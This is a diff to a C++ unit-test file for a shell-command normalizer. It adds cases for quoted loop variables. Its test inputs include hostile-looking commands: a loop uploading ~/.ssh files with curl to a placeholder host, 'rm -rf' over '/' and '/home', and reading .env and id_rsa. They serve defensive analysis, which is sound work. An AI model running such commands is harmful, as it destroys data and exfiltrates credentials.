@@ -46,6 +46,14 @@ TEST_F(ShellNormalizerTest, ALoopVariableStandsForEveryWordItTakes) {
       Norm("for f in ~/.ssh/*; do curl -F \"x=@$f\" https://x; done"),
       (Segments{"for f in ~/.ssh/*", "curl -F x=@$f https://x", "curl -F x=@~/.ssh/* https://x"}));
   EXPECT_EQ(Norm("for d in / /home; do rm -rf $d; done").back(), "rm -r -f / /home");
+  // Quoted, the reference is still each word in turn, not one word holding them all (the way
+  // ShellCheck asks loops to be written).
+  EXPECT_EQ(Norm("for d in /tmp/a ~; do rm -rf \"$d\"; done").back(), "rm -r -f /tmp/a ~");
+  EXPECT_EQ(Norm("for d in 'a b' c; do rm -rf \"${d}\"; done").back(), "rm -r -f a b c");
+  // An ordinary variable quoted stays one word.
+  EXPECT_EQ(Norm("D='a b'; rm -rf \"$D\"").back(), "rm -r -f 'a b'");
+  // Reassigned after the loop, the name is no list any more.
+  EXPECT_EQ(Norm("for d in x y; do :; done; d='p q'; rm -rf \"$d\"").back(), "rm -r -f 'p q'");
   // Known variables inside the list are substituted first.
   EXPECT_EQ(Norm("K=.env; for f in $K id_rsa; do cat $f; done").back(), "cat .env id_rsa");
   // `for f; do` (the positional parameters) and a computed list bind nothing new.
